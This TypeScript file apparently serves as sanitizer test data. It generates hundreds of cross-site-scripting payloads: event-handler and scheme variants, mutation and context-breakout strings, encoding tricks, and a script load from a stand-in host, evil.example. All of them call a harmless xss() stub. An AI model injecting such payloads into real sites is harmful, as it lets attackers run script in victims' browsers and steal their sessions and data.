/** Cross-site-scripting payloads, as an attacker would write them into a text: all of them call xss(). */
export function scriptPayloads(): string[] {
  const tags = [
    ...["img src=x", "svg", "video src=x", "audio src=x", "body", "input autofocus", "details open", "iframe src=x"],
    ...[
      "object data=x",
      "marquee",
      "p",
      "a href=/x",
      "div",
      "button autofocus",
      "select autofocus",
      "textarea autofocus",
    ],
    ...["style", "form", "math", "table", "xss style=animation-name:x", "image src=x", "keygen autofocus", "bdo"],
  ];
  const handlers = [
    ...["onerror", "onload", "onclick", "onfocus", "onmouseover", "ontoggle", "onanimationstart", "onpointerdown"],
    ...["onmouseenter", "onbegin", "onwheel", "onscrollend"],
  ];
  const gaps = [" ", "/", "\n", "\t", "\u000c", "  /"];
  const quotes = [(code: string) => code, (code: string) => `"${code}"`, (code: string) => `'${code}'`];
  const withHandlers = tags.flatMap((tag, row) =>
    handlers.map((handler, column) => {
      const gap = gaps[(row + column) % gaps.length];
      const quoted = quotes[(row * 3 + column) % quotes.length]?.("xss()");
      return `<${tag}${gap}${column % 2 ? handler.toUpperCase() : handler}=${quoted}>x`;
    }),
  );
  const schemes = [
    ...["javascript:xss()", "JaVaScRiPt:xss()", "java\tscript:xss()", "java\nscript:xss()", " javascript:xss()"],
    ...["&#106;avascript:xss()", "&#x6A;avascript:xss()", "javascript&colon;xss()", "\u0001javascript:xss()"],
    ...["data:text/html,<script>xss()</script>", "data:image/svg+xml,<svg onload=xss()>", "//evil.example/x.js"],
    ...["vbscript:xss()", "blob:https://evil.example/x"],
  ];
  const places = [
    ...[
      "a href",
      "iframe src",
      "form action",
      "img src",
      "object data",
      "embed src",
      "base href",
      "link rel=stylesheet href",
    ],
    ...["area href", "svg><a xlink:href", "video poster", "button formaction", "math href", "script src"],
  ];
  const withSchemes = places.flatMap((place) => schemes.map((scheme) => `<${place}="${scheme}">x`));
  const whole = [
    ...["<script>xss()</script>", "<SCRIPT>xss()</SCRIPT >", "<scr<script>ipt>xss()</scr</script>ipt>"],
    ...["<script\n>xss()</script\n>", "<svg><script>xss()</script></svg>", "<math><mtext><script>xss()</script>"],
    ...['<iframe srcdoc="<script>parent.xss()</script>"></iframe>', "<template><img src=x onerror=xss()></template>"],
    ...[
      '<meta http-equiv=refresh content="0;url=javascript:xss()">',
      "<noscript><p title='</noscript><img src=x onerror=xss()>'>",
    ],
    ...[
      "<!--><img src=x onerror=xss()>-->",
      "<![CDATA[<img src=x onerror=xss()>]]>",
      "<xmp><img src=x onerror=xss()></xmp>",
    ],
    ...[
      "<img src=x onerror=xss()//",
      '<img src="x` `<script>xss()</script>"` `>',
      "<svg><style><img src=x onerror=xss()></style>",
    ],
    ...['<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=xss()&gt;">'],
    ...[
      '<svg></p><style><a id="</style><img src=x onerror=xss()>">',
      "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style><img src=x onerror=xss()>'>",
    ],
    ...[
      "<svg><animate onbegin=xss() attributeName=x dur=1s>",
      "<svg><set attributeName=href to=javascript:xss() /><a><text>x</text></a>",
    ],
    ...[
      "<style>@import 'javascript:xss()';</style>",
      "<p style='background:url(javascript:xss())'>x",
      "<title><img src=x onerror=xss()></title>",
    ],
    ...[
      "&lt;script&gt;xss()&lt;/script&gt;",
      "&amp;lt;img src=x onerror=xss()&amp;gt;",
      "\\u003cimg src=x onerror=xss()\\u003e",
    ],
    ...[
      "%3Cscript%3Exss()%3C/script%3E",
      `$${"{xss()}"}`,
      "{{constructor.constructor('xss()')()}}",
      "<%= xss() %>",
      "`-xss()-`",
    ],
    ...[
      '"><script>xss()</script>',
      "'><script>xss()</script>",
      '" onmouseover="xss()',
      "' onmouseover='xss()",
      "' autofocus onfocus=xss() x='",
    ],
    ...[
      "</script><script>xss()</script>",
      "</style><script>xss()</script>",
      "</title><script>xss()</script>",
      "</textarea><script>xss()</script>",
    ],
    ...[
      "</option></select><img src=x onerror=xss()>",
      "--><script>xss()</script>",
      "]]><script>xss()</script>",
      "</p></main><script>xss()</script>",
    ],
    ...[
      '"};xss();//',
      "'-xss()-'",
      "\u2028xss()\u2028",
      "<\u0000script>xss()</script>",
      "<img src=x onerror\u0000=xss()>",
      "\ufeff<script>xss()</script>",
    ],
    ...[
      "<a href='javascript:xss()' target=_blank rel=opener>x</a>",
      "<details open ontoggle=xss()><summary>x</summary></details>",
    ],
    ...[
      "<portal src=javascript:xss()></portal>",
      "<isindex type=image src=x onerror=xss()>",
      "<applet code=x onerror=xss()></applet>",
      "<frameset onload=xss()>",
    ],
  ];
  return [...new Set([...withHandlers, ...withSchemes, ...whole])];
}
